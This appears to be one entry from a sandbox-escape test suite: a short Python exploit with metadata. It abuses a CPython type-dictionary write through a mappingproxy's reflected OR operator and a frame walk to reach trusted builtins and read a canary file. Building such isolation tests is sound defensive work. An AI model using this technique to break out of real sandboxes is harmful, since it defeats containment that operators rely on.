# id: static-type-dict-rewrite
# family: shared-state-poisoning
# kind: isolation
# invariant: A, B, D, E
# origin: CPython report gh-152405
# technique: | hands the dictionary of a static type to the reflected operand; what is added there holds for the whole interpreter
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits, interpreter
# fix: structural
# alive-when: canary

import copy


class Operand:
    def __ror__(self, behind):
        behind["__deepcopy__"] = planted


def planted(instance, memo):
    try:
        raise LookupError
    except LookupError as error:
        trusted = error.__traceback__.tb_frame.f_back
    print(trusted.f_builtins["open"]("canary.txt").read())


vars(memoryview) | Operand()
copy.deepcopy(memoryview(b""))
